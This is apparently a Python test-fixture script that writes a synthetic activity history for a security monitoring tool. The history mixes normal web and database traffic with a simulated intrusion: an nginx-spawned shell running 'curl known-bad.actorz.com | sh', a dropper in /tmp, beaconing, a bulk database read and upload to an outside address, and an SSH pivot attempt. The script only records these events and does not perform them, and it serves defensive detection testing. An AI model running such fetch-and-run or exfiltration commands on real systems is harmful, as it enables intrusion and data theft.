"""The history of tests/data/history.zip: three pods, an attack in four steps, and a loss, half in segments and half in the log.

It is kept as it was written, so that a later version shows that it reads what this one wrote.
"""

from __future__ import annotations

import shutil
import tempfile
import zipfile
from pathlib import Path

from tests.samples import ALL
from tests.scenes import Process, Scene

TARGET = Path(__file__).parents[1] / "data" / "history.zip"
#: The times of a zip's members: the history's content is all that may differ.
_MOMENT = (2026, 3, 1, 12, 0, 0)


def scene(traffic: int = 6) -> Scene:
    """All that happens in it, in one hour. `traffic`: clients of the web server."""
    scene = Scene()
    scene.observed(0, 3600)
    scene.node_address("192.168.7.2")
    web = scene.pod("web-6d4f8c-x2abc", "10.1.0.5", 1, workload="Deployment/web")
    shop = scene.pod("db-0", "10.1.0.6", 2, workload="StatefulSet/db")
    tool = scene.pod("tool", "10.1.0.7", 3, until=1800, namespace="ops")
    host = scene.process(None, "/usr/sbin/sshd", ["-D"], 4, uid=0, capabilities=ALL)
    nginx = scene.process(web, "/usr/sbin/nginx", ["-g", "daemon off;"], 5)
    database = scene.process(shop, "/usr/bin/postgres", ["-D", "/data"], 6)
    root = scene.process(tool, "/usr/bin/bash", ["-l"], 7, uid=0, capabilities=ALL)
    scene.listen(nginx, "10.1.0.5", 80, 8)
    scene.listen(database, "10.1.0.6", 5432, 8.5, until=3000)
    _traffic(scene, nginx, database, traffic)
    shell = scene.process(web, "/bin/sh", ["-c", "curl known-bad.actorz.com | sh"], 600, parent=nginx)
    curl = scene.process(web, "/usr/bin/curl", ["known-bad.actorz.com"], 600.1, parent=shell)
    scene.ask(curl, "known-bad.actorz.com", ["203.0.113.9"], 600.2)
    first = scene.connect(curl, "203.0.113.9", 80, 600.3, names=["known-bad.actorz.com"])
    scene.request(curl, first, "203.0.113.9", 80, 600.35, method="GET", host="known-bad.actorz.com", url_path="/x")
    scene.exit(curl, 601)
    dropper = scene.process(web, "/tmp/x", [], 602, parent=shell)
    for number in range(16):
        scene.connect(dropper, "203.0.113.9", 443, 660 + 60 * number, sent=300, received=200)
    scene.connect(dropper, "10.1.0.6", 5432, 900, sent=900, received=40_000_000)
    scene.accept(database, "10.1.0.5", 5432, 900, sent=40_000_000, received=900)
    upload = scene.connect(dropper, "198.51.100.4", 443, 960, lasts=30, sent=39_000_000, received=4_000)
    scene.request(
        dropper, upload, "198.51.100.4", 443, 960.1, sni="files.example.net", ja4="t13d1516h2_8daaf6152771_b186095e22b6"
    )
    scene.connect(root, "192.168.7.2", 22, 1000, outcome="refused", lasts=None)
    scene.accept(host, "10.1.0.7", 22, 1010, lasts=20)
    scene.exit(root, 1790, code=137)
    scene.add(
        "loss", 2000, table_name="process", cause="sequence_gap", events=12, since=scene.at(1999), until=scene.at(2001)
    )
    return scene


def _traffic(scene: Scene, nginx: Process, database: Process, clients: int) -> None:
    """What is ordinary: clients of the web server, which asks its database."""
    for number in range(clients):
        at = 10 + 540 / clients * number
        scene.accept(nginx, f"192.0.2.{number + 1}", 80, at)
        scene.ask(nginx, "db.shop.svc.cluster.local", ["10.1.0.6"], at + 0.1)
        scene.connect(nginx, "10.1.0.6", 5432, at + 0.2)
        scene.accept(database, "10.1.0.5", 5432, at + 0.2)


def write(target: Path = TARGET) -> None:
    """Write the file anew: a reader of later versions has to read the one before, so do this only where a scene is to be added."""
    with tempfile.TemporaryDirectory(prefix="firsthand-test-") as folder:
        history = made(Path(folder) / "history", scene())
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as kept:
            for path in sorted(history.rglob("*")):
                if path.is_file():
                    member = zipfile.ZipInfo(str(path.relative_to(history)), _MOMENT)
                    member.external_attr = 0o640 << 16
                    kept.writestr(member, path.read_bytes(), zipfile.ZIP_DEFLATED)


def made(history: Path, whole: Scene) -> Path:
    """A history of a scene, its first 25 minutes in segments and the rest in the log."""
    late, middle = Scene(), whole.at(1500)
    for table, rows in whole.rows.items():
        late.rows[table] = [row for row in rows if row["time"] >= middle]
        whole.rows[table] = [row for row in rows if row["time"] < middle]
    whole.write(history, kept=True)
    return late.write(history)


def unpack(folder: Path) -> Path:
    """The history, in an empty folder."""
    history = folder / "history"
    shutil.unpack_archive(TARGET, history)
    return history
